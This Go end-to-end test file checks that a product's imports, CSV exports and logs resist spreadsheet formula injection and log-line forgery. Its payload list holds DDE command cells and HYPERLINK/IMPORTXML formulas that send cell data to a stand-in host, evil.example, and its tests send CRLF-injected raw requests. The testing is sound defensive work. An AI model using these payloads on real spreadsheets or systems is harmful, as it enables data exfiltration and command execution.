package attack

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/almonerhq/almoner/e2e/harness"
	"github.com/almonerhq/almoner/shared/devkit/await"
)

// Cells that a spreadsheet reads as formulas, and texts that break log lines.

var formulas = []string{
	`=cmd|' /C calc'!A0`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	`=HYPERLINK("https://evil.example?x="&A1,"Error")`, `=IMPORTXML("https://evil.example","//a")`, "|calc", "%0A=1+1",
}

// TestImport_FormulasStayText checks that an import stores formulas as text, and that the exports of the logs are files
// to be saved, whose lines a text cannot forge. That formulas in them are marked, settings.TestAudit_CSVMarksFormulas
// shows.
func TestImport_FormulasStayText(t *testing.T) {
	p, e := newAttack(t)
	api := p.In(e.Workspace, e.Token)
	csv := "name,summary\n"
	for _, formula := range formulas {
		cell := `"` + strings.ReplaceAll(formula, `"`, `""`) + `"`
		csv += cell + "," + cell + "\n"
	}
	if report := imported(t, api, csv); report.Object(t)["status"] != "processed" {
		t.Errorf("not imported:\n%s", report)
	}
	list := api.Get(t, harness.ListPath).Wants(t, http.StatusOK).WantsHeader(t, "Content-Type", "application/json").
		WantsHeader(t, "X-Content-Type-Options", "nosniff")
	var page struct {
		Data []struct{ Name, Summary string }
	}
	must(t, json.Unmarshal(list.Body, &page))
	names := map[string]bool{}
	for _, programme := range page.Data {
		names[programme.Name] = programme.Name == programme.Summary
	}
	for _, formula := range formulas {
		if !names[formula] {
			t.Errorf("%q did not come back unchanged", formula)
		}
	}
	if report := imported(t, api, "name,status\nPantry,=1+1\n"); strings.Contains(string(report.Body), "=1+1") {
		t.Errorf("the report of an import echoes its cells:\n%s", report)
	}
	exportsLogs(t, p, e)
}

// imported imports a file, and returns the report when it is finished.
func imported(t *testing.T, api harness.API, csv string) (report harness.Answer) {
	t.Helper()
	answer := api.Send(t, http.MethodPost, harness.ListPath+"/imports", "text/csv", csv).Wants(t, http.StatusAccepted)
	path, _ := answer.Object(t)["id"].(string)
	await.True(t, "the import is finished", func() bool {
		report = api.Get(t, harness.ListPath+"/imports/"+path).Wants(t, http.StatusOK)
		return report.Object(t)["status"] != "accepted"
	})
	return report
}

// isDownload checks that a browser saves a response, and does not open it as something else.
func isDownload(t *testing.T, answer harness.Answer, kind string) {
	t.Helper()
	answer.Wants(t, http.StatusOK).WantsHeader(t, "X-Content-Type-Options", "nosniff")
	if !strings.HasPrefix(answer.Header.Get("Content-Disposition"), "attachment; ") ||
		!strings.HasPrefix(answer.Header.Get("Content-Type"), kind) {
		t.Errorf("want a download of %s:\n%s", kind, answer)
	}
}

// exportsLogs writes formulas to the audit log, and exports the logs.
func exportsLogs(t *testing.T, p *harness.Product, e *target) {
	t.Helper()
	for _, formula := range formulas {
		p.Database.Exec(t, `insert into account.audit_events
				(id, tenant_id, actor, action, subject, detail, request_id)
			values (gen_random_uuid(), $1, 'admin', 'token.created', 'token:x',
				jsonb_build_object('name', $2::text || E'\n{"action":"forged"}'), '')`, e.Workspace.ID, formula)
	}
	bodies := map[string][]byte{}
	for path, kind := range map[string]string{
		"/settings/audit.jsonl": "application/jsonl", "/settings/audit.csv": "text/csv",
		"/settings/connectors/log.csv": "text/csv",
	} {
		export := e.person.Open(t, p.AppURL+path+"?tenant="+e.Workspace.ID)
		isDownload(t, export.Answer, kind)
		bodies[path] = export.Body
	}
	lines := 0
	for scanner := bufio.NewScanner(bytes.NewReader(bodies["/settings/audit.jsonl"])); scanner.Scan(); lines++ {
		var line map[string]any
		if err := json.Unmarshal(scanner.Bytes(), &line); err != nil || line["action"] == "forged" {
			t.Errorf("a line of the export is forged or not JSON: %s", harness.Redact(scanner.Text()))
		}
	}
	if lines < len(formulas) {
		t.Errorf("the export has %d lines", lines)
	}
}

// TestExport_FormulasAreMarkedAsText checks that a CSV export of submissions marks formulas as text, and that no other
// response is a CSV file.
func TestExport_FormulasAreMarkedAsText(t *testing.T) {
	p, e := newAttack(t)
	api := p.In(e.Workspace, e.Token)
	form := addForm(t, api, "Formulas", "textarea", []string{}).Object(t)
	public := "/v1/engage/public/forms/" + form["embedKey"].(string)
	for _, formula := range formulas {
		p.API().JSON(t, http.MethodPost, public+"/submissions", map[string]any{
			"submissionToken": p.API().Get(t, public).Wants(t, http.StatusOK).Object(t)["submissionToken"],
			"answers":         map[string]any{"textarea": formula},
		}).Wants(t, http.StatusAccepted)
	}
	export := api.Get(t, "/v1/engage/forms/"+form["id"].(string)+"/submissions/export?format=csv")
	isDownload(t, export, "text/csv")
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(export.Body, []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != len(formulas)+1 {
		t.Fatalf("%d rows: %v", len(rows), err)
	}
	for i, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@|%\t\r\n") {
				t.Errorf("row %d has a formula: %q", i, cell)
			}
		}
	}

	tables := 0
	for _, content := range described(t, p) {
		var one struct {
			Responses map[string]struct{ Content map[string]any }
		}
		must(t, json.Unmarshal(content, &one))
		for _, response := range one.Responses {
			for kind := range response.Content {
				if spreadsheet.MatchString(kind) {
					tables++
				}
			}
		}
	}
	if tables != 1 {
		t.Errorf("%d responses are for spreadsheets: mark formulas in all of them, and test them here", tables)
	}
}

// spreadsheet matches the content types that a spreadsheet opens.
var spreadsheet = regexp.MustCompile("csv|excel|spreadsheet|tab-separated")

func TestLogs_LinesCannotBeForged(t *testing.T) {
	p := newProduct(t)
	forged := "\n" + `{"time":"2026-01-01T00:00:00Z","level":"INFO","msg":"forged by us"}` + "\n"
	escaped := "%0d%0a%7b%22msg%22%3a%22forged%20by%20us%22%7d%0a"
	for _, address := range []string{p.BaseURL, p.AppURL} {
		speak(t, address, "GET /v1/"+escaped+" HTTP/1.1\r\n"+closing)
		speak(t, address, "GET /login HTTP/1.1\r\nUser-Agent: x\u2028{\"msg\":\"forged by us\"}\r\n"+
			"X-Request-Id: "+escaped+"\r\n"+closing)
	}
	p.API().JSON(t, http.MethodPost, harness.TokenPath, map[string]any{
		"client_id": forged, "client_secret": forged, "code": forged, "redirect_uri": forged,
	}).Wants(t, http.StatusBadRequest)
	p.App().Form(t, "/login", map[string][]string{"email": {"a@b.example" + forged}, "password": {forged}}).
		Wants(t, http.StatusBadRequest)
	names, err := filepath.Glob(filepath.Join(shared(t).LogDir(), "*.log"))
	if err != nil || len(names) < 3 {
		t.Fatalf("%d logs: %v", len(names), err)
	}
	for _, name := range names {
		content, err := os.ReadFile(name)
		must(t, err)
		for line := range strings.Lines(string(content)) {
			var entry map[string]any
			if strings.HasPrefix(line, "{") && strings.HasSuffix(line, "\n") &&
				json.Unmarshal([]byte(line), &entry) != nil {
				t.Errorf("%s has a line that is not JSON: %s", filepath.Base(name), harness.Redact(line))
			}
			if entry["msg"] == "forged by us" {
				t.Errorf("%s has a forged line", filepath.Base(name))
			}
		}
	}
}

// closing is the end of the headers of a connection's last request.
const closing = "Host: x\r\nConnection: close\r\n\r\n"

// speak sends requests, byte by byte, to an address of the product.
func speak(t *testing.T, address, text string) {
	t.Helper()
	_, port, _ := strings.Cut(strings.TrimPrefix(address, "http://"), ":")
	connection, err := (&net.Dialer{Timeout: 5 * time.Second}).DialContext(t.Context(), "tcp",
		net.JoinHostPort("127.0.0.1", port))
	must(t, err)
	harness.SendRaw(connection, text)
}
